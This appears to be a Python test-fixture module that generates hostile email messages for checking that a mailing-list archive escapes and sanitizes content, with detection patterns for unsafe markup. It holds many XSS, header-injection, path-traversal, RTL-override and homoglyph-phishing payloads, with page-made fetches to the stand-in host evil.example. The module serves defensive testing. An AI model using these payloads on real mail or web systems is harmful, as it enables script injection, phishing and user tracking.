"""Messages built to attack readers of an archive, for tests of escaping and sanitizing.

`hostile_messages()` returns (name, raw bytes) pairs; a name is ``category:variant`` and
`HOSTILE_CATEGORIES` lists the categories. All go to ``hostile@lists.example.org`` and are
dated in March 2021. Every payload that would run script tries ``window.__pwned = 1`` (or
calls ``__pwned()``), and every external fetch targets ``evil.example``, so a browser test can
check ``window.__pwned`` and trap requests to that host.

Checking a page: `HOSTILE_MARKERS` are substrings that escaping always changes (they hold
``<`` or ``="``), so none may appear in a page's HTML; `unsafe_markup(html)` looks inside
the page's tags for anything carrying a payload (handlers, script URLs, the trap host).
"""

from __future__ import annotations

import base64
import re

LIST_ADDRESS = "hostile@lists.example.org"
PWN = "window.__pwned=1"
EVIL = "evil.example"

HOSTILE_CATEGORIES = (
    "script",
    "event-handler",
    "javascript-url",
    "data-url",
    "vbscript-url",
    "svg",
    "css",
    "style-attribute",
    "iframe",
    "object",
    "meta-refresh",
    "base-href",
    "broken-markup",
    "encoded-word",
    "html-attachment",
    "filename",
    "rtl-override",
    "homoglyph",
    "external-image",
    "header-injection",
)
HOSTILE_MARKERS = (
    "<script",
    "<iframe",
    "<object",
    "<embed",
    "<applet",
    "<frame",
    "<base ",
    "<base>",
    "<meta http-equiv",
    "<isindex",
    "<xss",
    "<img src=x",
    ' onerror="',
    ' onload="',
    ' onmouseover="',
    ' onfocus="',
    ' ontoggle="',
    'href="javascript:',
    'src="javascript:',
    'href="vbscript:',
    'href="data:',
    'src="data:text/html',
    'src="http://evil.example',
    'src="https://evil.example',
    'src="//evil.example',
    'href="http://evil.example/x.css',
)
_TAG = re.compile(r"<([a-zA-Z][a-zA-Z0-9-]*)((?:[^>\"']|\"[^\"]*\"|'[^']*')*)>", re.DOTALL)
_ELEMENT_CONTENT = re.compile(r"<(script|style)\b[^>]*>(.*?)</\1", re.DOTALL | re.IGNORECASE)
_ATTRIBUTE_PAYLOAD = re.compile(
    r"\bon[a-z]+\s*=|javascript:|vbscript:|data:(?!image/(?:png|gif|jpe?g|webp)[;,])|expression\(|@import|__pwned|evil\.example",
    re.IGNORECASE,
)
_LINK_TO_TRAP = re.compile(r"""^\s+href=(["']?)https?://evil\.example[^"'\s>]*\1\s*$""", re.IGNORECASE)


def unsafe_markup(page: str) -> list[str]:
    """The tags and script/style elements of `page` that carry a payload from these messages.

    A plain link to the trap host (``<a href="https://evil.example/...">``) is allowed: following a
    link is the reader's choice, unlike a fetch the page makes by itself.
    """
    found = []
    for match in _TAG.finditer(page):
        name, attributes = match.group(1).lower(), match.group(2)
        if name == "a" and _LINK_TO_TRAP.match(attributes):
            continue
        if _ATTRIBUTE_PAYLOAD.search(attributes):
            found.append(match.group(0)[:200])
    for match in _ELEMENT_CONTENT.finditer(page):
        if _ATTRIBUTE_PAYLOAD.search(match.group(2)):
            found.append(match.group(0)[:200])
    return found


def _html(markup: str, alternative: bool = False) -> tuple[str, bytes]:
    doc = f"<html><body>\n{markup}\n</body></html>\n".encode()
    if not alternative:
        return 'Content-Type: text/html; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n', doc
    boundary = "hostile-alt-boundary"
    body = (
        (
            f'--{boundary}\nContent-Type: text/plain; charset="us-ascii"\n\nSee the HTML part.\n'
            f'--{boundary}\nContent-Type: text/html; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n'
        ).encode("ascii")
        + doc
        + f"--{boundary}--\n".encode("ascii")
    )
    return f'Content-Type: multipart/alternative; boundary="{boundary}"\n', body


def _plain(text: str) -> tuple[str, bytes]:
    return 'Content-Type: text/plain; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n', text.encode("utf-8") + b"\n"


def _attach(type_line: str, disposition: str, data: bytes, encoding: str = "base64") -> tuple[str, bytes]:
    """A text part then one attachment; `type_line` and `disposition` are written as given."""
    boundary = "hostile-mixed-boundary"
    payload = base64.encodebytes(data) if encoding == "base64" else data
    body = (
        (
            f'--{boundary}\nContent-Type: text/plain; charset="us-ascii"\n\nThe file is attached.\n'
            f"--{boundary}\nContent-Type: {type_line}\nContent-Disposition: {disposition}\n"
            f"Content-Transfer-Encoding: {encoding}\n\n"
        ).encode()
        + payload
        + f"\n--{boundary}--\n".encode("ascii")
    )
    return f'Content-Type: multipart/mixed; boundary="{boundary}"\n', body


def _b64word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode("utf-8")).decode("ascii") + "?="


_SCRIPT = f"<script>{PWN}</script>"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script></svg>'
_PNG_1PX = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)

# (name, {header: value} overriding the defaults, (MIME header lines, body bytes))
_Case = tuple[str, dict[str, str], tuple[str, bytes]]


def _cases() -> list[_Case]:
    h = _html
    return [
        ("script:subject", {"Subject": f"[Hostile] {_SCRIPT} meeting notes"}, _plain("Nothing to see in the body.")),
        ("script:from-name", {"From": f'"{_SCRIPT}" <mallory@example.com>'}, _plain("Look at my name.")),
        (
            "script:plain-body",
            {},
            _plain(f"Here is a tag:\n\n{_SCRIPT}\n\nand one more <SCRIPT SRC=http://{EVIL}/x.js></SCRIPT>"),
        ),
        ("script:html-part", {}, h(f"<p>Hello</p>{_SCRIPT}", alternative=True)),
        ("script:mixed-case", {}, h(f"<ScRiPt>{PWN}</sCrIpT><p>case games</p>")),
        ("script:nested-split", {}, h(f"<scr<script>ipt>{PWN}</scr</script>ipt>")),
        ("script:close-pre", {}, _plain(f"</pre></textarea></title>{_SCRIPT}<pre>")),
        ("script:in-url-text", {}, _plain(f'Link: http://example.com/"><script>{PWN}</script>')),
        ("event-handler:img-onerror", {}, h(f'<img src="x" onerror="{PWN}">')),
        ("event-handler:body-onload", {}, h(f'<body onload="{PWN}"><p>onload</p></body>')),
        ("event-handler:a-onmouseover", {}, h(f'<a href="https://example.org/" onmouseover="{PWN}">hover me</a>')),
        ("event-handler:unquoted", {}, h(f"<img src=x onerror={PWN}>")),
        ("event-handler:details-ontoggle", {}, h(f'<details open ontoggle="{PWN}"><summary>x</summary></details>')),
        ("event-handler:autofocus", {}, h(f'<input autofocus onfocus="{PWN}">')),
        ("event-handler:slash-separator", {}, h(f'<img/src="x"/onerror="{PWN}">')),
        ("event-handler:plain-text", {}, _plain(f'<img src=x onerror="{PWN}"> typed into a plain text mail')),
        ("javascript-url:href", {}, h(f'<a href="javascript:{PWN}">click</a>')),
        ("javascript-url:mixed-case", {}, h(f'<a href="JaVaScRiPt:{PWN}">click</a>')),
        (
            "javascript-url:entity-decimal",
            {},
            h(f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{PWN}">click</a>'),
        ),
        ("javascript-url:entity-hex", {}, h(f'<a href="&#x6A;avascript&#x3A;{PWN}">click</a>')),
        ("javascript-url:tab-newline", {}, h(f'<a href="java\tscr\nipt:{PWN}">click</a>')),
        ("javascript-url:leading-space", {}, h(f'<a href=" \x01javascript:{PWN}">click</a>')),
        ("javascript-url:plain-text", {}, _plain(f"Try this link: javascript:{PWN}\nor <javascript:__pwned()>")),
        ("javascript-url:form-action", {}, h(f'<form action="javascript:{PWN}"><button>go</button></form>')),
        (
            "data-url:html",
            {},
            h('<a href="data:text/html;base64,' + base64.b64encode(_SCRIPT.encode()).decode() + '">x</a>'),
        ),
        (
            "data-url:img-svg",
            {},
            h('<img src="data:image/svg+xml;base64,' + base64.b64encode(_SVG.encode()).decode() + '">'),
        ),
        ("data-url:iframe", {}, h(f'<iframe src="data:text/html,<script>{PWN}</script>"></iframe>')),
        ("vbscript-url:href", {}, h('<a href="vbscript:msgbox(1)">click</a>')),
        ("vbscript-url:mixed-case", {}, h("<a href=\"VbScRiPt:Execute('__pwned')\">click</a>")),
        ("svg:inline-script", {}, h(_SVG)),
        (
            "svg:attachment",
            {},
            _attach('image/svg+xml; name="chart.svg"', 'inline; filename="chart.svg"', _SVG.encode()),
        ),
        ("svg:xlink-href", {}, h(f'<svg><a xlink:href="javascript:{PWN}"><text y="20">click</text></a></svg>')),
        ("css:expression", {}, h(f"<style>p {{ width: expression({PWN}); }}</style><p>old IE</p>")),
        ("css:import", {}, h(f"<style>@import url(http://{EVIL}/x.css);</style><p>import</p>")),
        ("css:url-background", {}, h(f"<style>body {{ background: url('http://{EVIL}/bg.png') }}</style><p>bg</p>")),
        ("css:link-stylesheet", {}, h(f'<link rel="stylesheet" href="http://{EVIL}/x.css"><p>link</p>')),
        (
            "css:binding",
            {},
            h(f"<style>p {{ -moz-binding: url(http://{EVIL}/x.xml#x); behavior: url(http://{EVIL}/x.htc) }}</style>"),
        ),
        ("style-attribute:url", {}, h(f'<div style="background-image:url(http://{EVIL}/track.png)">tracked</div>')),
        ("style-attribute:expression", {}, h(f'<div style="width:expression({PWN})">x</div>')),
        (
            "style-attribute:overlay",
            {},
            h(
                '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
                'background:#fff;z-index:99999">Your session expired. Log in again.</div>'
            ),
        ),
        ("iframe:src", {}, h(f'<iframe src="http://{EVIL}/frame.html" width="600"></iframe>')),
        ("iframe:srcdoc", {}, h(f'<iframe srcdoc="&lt;script&gt;parent.{PWN}&lt;/script&gt;"></iframe>')),
        ("object:data", {}, h(f'<object data="http://{EVIL}/x.swf" type="application/x-shockwave-flash"></object>')),
        ("object:embed", {}, h(f'<embed src="http://{EVIL}/x.swf">')),
        ("object:applet", {}, h(f'<applet code="X.class" codebase="http://{EVIL}/"></applet>')),
        ("meta-refresh:url", {}, h(f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/phish">')),
        ("meta-refresh:javascript", {}, h(f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">')),
        ("base-href:plain", {}, h(f'<base href="http://{EVIL}/"><a href="login">log in</a><img src="p.png">')),
        ("broken-markup:unclosed-img", {}, h(f'<p>text <img src=x onerror="{PWN}"')),
        ("broken-markup:double-bracket", {}, h(f"<<script>{PWN}//<</script>")),
        ("broken-markup:comment", {}, h(f"<!-- --><script>{PWN}</script> --><!--<img src=x>")),
        ("broken-markup:cdata", {}, h(f"<![CDATA[<]]><script>{PWN}</script>")),
        ("broken-markup:null-byte", {}, h(f'<scr\x00ipt>{PWN}</scr\x00ipt><img src=x o\x00nerror="{PWN}">')),
        ("broken-markup:attribute-breakout", {}, h(f'<a title="x" "><img src=x onerror="{PWN}">">t</a>')),
        (
            "encoded-word:from-script",
            {"From": _b64word(_SCRIPT) + " <mallory@example.com>"},
            _plain("Decoded name holds a tag."),
        ),
        (
            "encoded-word:subject-q",
            {"Subject": "=?utf-8?q?=3Cscript=3Ewindow=2E=5F=5Fpwned=3D1=3C=2Fscript=3E?="},
            _plain("q-encoded subject"),
        ),
        (
            "encoded-word:subject-img",
            {"Subject": _b64word(f'"><img src=x onerror="{PWN}">')},
            _plain("b-encoded subject"),
        ),
        (
            "encoded-word:utf-7",
            {"Subject": "=?utf-7?q?+ADw-script+AD4-window.+AF8AXw-pwned=3D1+ADw-/script+AD4-?="},
            _plain("utf-7"),
        ),
        (
            "encoded-word:from-address",
            {"From": f'"Mallory" <{_b64word("<svg onload=__pwned()>")}@example.com>'},
            _plain("odd address"),
        ),
        (
            "html-attachment:text-html",
            {},
            _attach(
                'text/html; name="invoice.html"',
                'attachment; filename="invoice.html"',
                f"<html>{_SCRIPT}</html>".encode(),
            ),
        ),
        (
            "html-attachment:xhtml",
            {},
            _attach(
                'application/xhtml+xml; name="page.xhtml"',
                'attachment; filename="page.xhtml"',
                f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{PWN}</script></html>'.encode(),
            ),
        ),
        (
            "html-attachment:mislabelled",
            {},
            _attach(
                'text/plain; name="notes.txt"', 'attachment; filename="notes.html"', f"<html>{_SCRIPT}</html>".encode()
            ),
        ),
        (
            "html-attachment:inline",
            {},
            _attach('text/html; charset="utf-8"', "inline", f"<p>inline</p>{_SCRIPT}".encode(), "8bit"),
        ),
        (
            "filename:html",
            {},
            _attach(
                f'image/png; name="<img src=x onerror={PWN}>.png"',
                f'attachment; filename="<img src=x onerror={PWN}>.png"',
                _PNG_1PX,
            ),
        ),
        (
            "filename:path-traversal",
            {},
            _attach(
                'text/plain; name="../../../etc/passwd"', 'attachment; filename="../../../etc/passwd"', b"root:x:0:0\n"
            ),
        ),
        (
            "filename:windows-path",
            {},
            _attach(
                'text/plain; name="..\\\\..\\\\boot.ini"',
                'attachment; filename="C:\\\\Windows\\\\win.ini"',
                b"[boot]\n",
            ),
        ),
        (
            "filename:control-chars",
            {},
            _attach(
                'text/plain; name="a\x07b\x1b[31mred.txt"',
                'attachment; filename="a\x07b\x1b[31mred\x00.txt"',
                b"bell\n",
            ),
        ),
        (
            "filename:rfc2231-script",
            {},
            _attach("text/plain", "attachment; filename*=utf-8''%3Cscript%3E__pwned()%3C%2Fscript%3E.txt", b"x\n"),
        ),
        (
            "filename:encoded-crlf",
            {},
            _attach(
                'text/plain; name="=?utf-8?q?a=0D=0AContent-Type=3A_text/html?="',
                'attachment; filename="=?utf-8?q?a=0D=0AX=3A_y.html?="',
                b"x\n",
            ),
        ),
        (
            "rtl-override:filename",
            {},
            _attach(
                'application/octet-stream; name="invoice\u202efdp.exe"',
                'attachment; filename="invoice\u202efdp.exe"',
                b"MZ\x90\x00",
            ),
        ),
        (
            "rtl-override:subject",
            {"Subject": _b64word("[Hostile] Your account \u202eetadpu ot deen")},
            _plain("reversed"),
        ),
        (
            "rtl-override:from",
            {"From": _b64word("Support \u202etroppus") + " <mallory@example.com>"},
            _plain("reversed name"),
        ),
        ("homoglyph:link-text", {}, h(f'<a href="http://{EVIL}/login">https://lists.example.org/login</a>')),
        (
            "homoglyph:cyrillic-host",
            {},
            _plain("Log in again at https://lists.\u0435xample.org/accounts/login/ (note the letter e)."),
        ),
        (
            "homoglyph:punycode",
            {},
            h(f'<a href="http://xn--lists-exmple-9bb.org@{EVIL}/">https://lists.example.org</a>'),
        ),
        ("external-image:img", {}, h(f'<img src="http://{EVIL}/track.gif" width="1" height="1">')),
        ("external-image:srcset", {}, h(f'<img srcset="http://{EVIL}/a.png 1x, http://{EVIL}/b.png 2x" src="cid:x">')),
        (
            "external-image:protocol-relative",
            {},
            h(f'<img src="//{EVIL}/pixel.png"><video poster="http://{EVIL}/p.jpg"></video>'),
        ),
        (
            "external-image:background-attr",
            {},
            h(f'<table background="http://{EVIL}/bg.jpg"><tr><td>x</td></tr></table>'),
        ),
        (
            "header-injection:subject-crlf",
            {"Subject": "=?utf-8?q?Hello=0D=0ABcc=3A_victim=40example=2Ecom=0D=0A=0D=0A<script>__pwned()</script>?="},
            _plain("subject with CRLF"),
        ),
        (
            "header-injection:from-crlf",
            {"From": _b64word(f"Mallory\r\nX-Injected: yes\r\n\r\n{_SCRIPT}") + " <mallory@example.com>"},
            _plain("from with CRLF"),
        ),
        (
            "header-injection:bare-cr",
            {"Subject": f"[Hostile] bare\rX-Injected: yes {_SCRIPT}"},
            _plain("bare CR in a header"),
        ),
        (
            "header-injection:message-id-html",
            {"Message-ID": f'<"><script>{PWN}</script>.1@{EVIL}>'},
            _plain("a Message-ID that is markup"),
        ),
        (
            "header-injection:references-html",
            {"In-Reply-To": f'<x"><img src=x onerror={PWN}>@{EVIL}>'},
            _plain("parent id is markup"),
        ),
    ]


def _date(index: int) -> str:
    day = index % 28 + 1
    return f"{('Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat', 'Sun')[(day - 1) % 7]}, {day:02d} Mar 2021 {index % 24:02d}:{index % 60:02d}:00 +0000"


def hostile_messages() -> list[tuple[str, bytes]]:
    """Every hostile message, in a fixed order; each has its own Message-ID."""
    out = []
    for index, (name, overrides, (mime_head, body)) in enumerate(_cases()):
        slug = re.sub(r"[^a-z0-9]+", "-", name)
        headers = {
            "From": "Mallory Example <mallory@example.com>",
            "To": LIST_ADDRESS,
            "Subject": f"[Hostile] {name}",
            "Date": _date(index),
            "Message-ID": f"<hostile.{index:03d}.{slug}@lists.example.org>",
            **overrides,
        }
        head = "".join(f"{key}: {value}\n" for key, value in headers.items())
        head += f"MIME-Version: 1.0\n{mime_head}List-Id: Hostile test list <hostile.lists.example.org>\n"
        out.append((name, head.encode("utf-8") + b"\n" + body))
    return out
